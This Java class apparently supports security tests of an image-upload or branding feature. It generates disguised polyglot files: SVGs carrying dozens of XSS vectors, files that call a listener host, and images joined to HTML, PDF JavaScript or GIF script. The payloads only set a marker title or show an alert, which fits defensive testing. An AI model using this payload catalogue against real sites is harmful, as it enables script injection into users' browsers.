package dev.atrium.branding;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import javax.imageio.ImageIO;

/** Files that are two things at once: a picture to whoever checks it, a script, page or document to whoever opens it. */
public final class Polyglots {
    /** One of them; the name is what the browser is told. */
    @SuppressWarnings("ArrayRecordComponent") // Sent, never compared.
    public record File(String name, byte[] bytes) {}

    private static final List<String> DRAWINGS = List.of(
            "<script>EVIL</script>",
            "<script type='text/ecmascript'><![CDATA[EVIL]]></script>",
            "<script href='http://AT/p/1'/>",
            "<script xlink:href='http://AT/p/2' xmlns:xlink='http://www.w3.org/1999/xlink'/>",
            "<script href='data:text/javascript,EVIL'/>",
            "<s:script xmlns:s='http://www.w3.org/2000/svg'>EVIL</s:script>",
            "<rect onload='EVIL' width='9' height='9'/>",
            "<rect onclick='EVIL' onmouseover='EVIL' onfocus='EVIL' tabindex='0' autofocus='' width='9' height='9'/>",
            "<g onbegin='EVIL'><animate onbegin='EVIL' attributeName='x' dur='1s'/></g>",
            "<animate onend='EVIL' attributeName='x' dur='1ms'/>",
            "<set attributeName='onload' to='EVIL'/>",
            "<a href='javascript:EVIL'><rect width='99' height='99'/></a>",
            "<a><animate attributeName='href' values='javascript:EVIL'/><text y='9'>x</text></a>",
            "<a xlink:href='javascript:EVIL' xmlns:xlink='http://www.w3.org/1999/xlink'><text y='9'>x</text></a>",
            "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml' onload='EVIL'/></foreignObject>",
            "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:EVIL'/></foreignObject>",
            "<foreignObject><x:script xmlns:x='http://www.w3.org/1999/xhtml'>EVIL</x:script></foreignObject>",
            "<html xmlns='http://www.w3.org/1999/xhtml'><script>EVIL</script></html>",
            "<x:img xmlns:x='http://www.w3.org/1999/xhtml' src='http://AT/p/3' onerror='EVIL'/>",
            "<x:link xmlns:x='http://www.w3.org/1999/xhtml' rel='stylesheet' href='http://AT/p/4'/>",
            "<x:meta xmlns:x='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=http://AT/p/5'/>",
            "<x:base xmlns:x='http://www.w3.org/1999/xhtml' href='http://AT/p/6'/>",
            "<image href='http://AT/p/7' width='9' height='9'/>",
            "<image href='x' onerror='EVIL' width='9' height='9'/>",
            "<image href='data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22EVIL%22/%3E'/>",
            "<use href='http://AT/p/8#x'/>",
            "<use href='data:image/svg+xml,&lt;svg id=&quot;x&quot; xmlns=&quot;http://www.w3.org/2000/svg&quot;&gt;&lt;script&gt;EVIL&lt;/script&gt;&lt;/svg&gt;#x'/>",
            "<filter id='f'><feImage href='http://AT/p/9'/></filter><rect filter='url(#f)' width='9' height='9'/>",
            "<style>@import url(http://AT/p/10);</style>",
            "<style>rect { fill: url(http://AT/p/11) } * { background: url(http://AT/p/12) }</style><rect width='9' height='9'/>",
            "<rect style='fill:url(http://AT/p/13)' width='9' height='9'/>",
            "<rect fill='url(http://AT/p/14#g)' width='9' height='9'/>",
            "<rect style='mask:u\\72l(http://AT/p/15)' width='9' height='9'/>",
            "<handler type='text/javascript' ev:event='load' xmlns:ev='http://www.w3.org/2001/xml-events'>EVIL</handler>",
            "<listener event='load' handler='#h' xmlns='http://www.w3.org/2001/xml-events'/><text>x</text>",
            "<video xmlns='http://www.w3.org/1999/xhtml' src='http://AT/p/16' onerror='EVIL'/>",
            "<audio xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='EVIL' autoplay=''/>",
            "<object xmlns='http://www.w3.org/1999/xhtml' data='http://AT/p/17'/>",
            "<embed xmlns='http://www.w3.org/1999/xhtml' src='javascript:EVIL'/>",
            "<discard onbegin='EVIL'/>",
            "<switch><foreignObject><textarea xmlns='http://www.w3.org/1999/xhtml' autofocus='' onfocus='EVIL'/></foreignObject></switch>",
            "<title>&lt;/title&gt;&lt;script&gt;EVIL&lt;/script&gt;</title>",
            "<desc><![CDATA[</desc><script>EVIL</script>]]></desc>");

    private Polyglots() {}

    /** Each would run a script that sets the title to {@code RAN}, or ask {@code listener} below {@code /p/}. */
    public static List<File> all(String listener) {
        var files = new ArrayList<File>();
        var evil = "document.title='RAN';alert(1)";
        for (var inner : DRAWINGS)
            files.add(
                    text("drawing.svg", drawing("", inner).replace("EVIL", evil).replace("AT", listener)));
        for (var before : List.of(
                "<?xml version='1.0'?><?xml-stylesheet href='http://AT/p/18' type='text/xsl'?>",
                "<?xml-stylesheet href='javascript:EVIL'?>",
                "<!DOCTYPE svg [<!ENTITY x SYSTEM 'http://AT/p/19'>]>",
                "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://AT/p/20'>",
                "<!--><script>EVIL</script>-->"))
            files.add(text(
                    "drawing.svg",
                    drawing(before, "<rect width='9' height='9'/>")
                            .replace("EVIL", evil)
                            .replace("AT", listener)));
        var page = "<html><script>" + evil + "</script><img src='http://" + listener + "/p/21'></html>";
        for (var format : List.of("png", "jpg", "gif")) {
            var picture = picture(format);
            files.add(new File("picture.html", join(picture, page.getBytes(StandardCharsets.UTF_8))));
            files.add(new File("picture." + format, join(page.getBytes(StandardCharsets.UTF_8), picture)));
            files.add(new File(
                    "picture.svg",
                    join(picture, drawing("", "<script>" + evil + "</script>").getBytes(StandardCharsets.UTF_8))));
        }
        files.add(text("picture.gif", "GIF89a/*" + "\0".repeat(8) + "*/=0;" + evil + "//"));
        files.add(text("picture.png", "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"));
        files.add(text("picture.png", page));
        files.add(text(
                "picture.png",
                "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>" + evil
                        + "</script></html>"));
        files.add(text("favicon.ico", "\0\0\u0001\0\u0001\0" + page));
        files.add(text("picture.webp", "RIFF\u0010\0\0\0WEBPVP8 " + page));
        files.add(text("picture.bmp", "BM" + page));
        files.add(text("picture.png", "PK\u0003\u0004" + page));
        return files;
    }

    private static String drawing(String before, String inner) {
        return before
                + "<svg xmlns='http://www.w3.org/2000/svg' width='64' height='64' viewBox='0 0 64 64' onload='EVIL'>"
                + "<rect width='4' height='4'/>" + inner + "</svg>";
    }

    private static File text(String name, String text) {
        return new File(name, text.getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] picture(String format) {
        try {
            var out = new ByteArrayOutputStream();
            ImageIO.write(new BufferedImage(400, 400, BufferedImage.TYPE_INT_RGB), format, out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] join(byte[] one, byte[] two) {
        var both = Arrays.copyOf(one, one.length + two.length);
        System.arraycopy(two, 0, both, one.length, two.length);
        return both;
    }
}
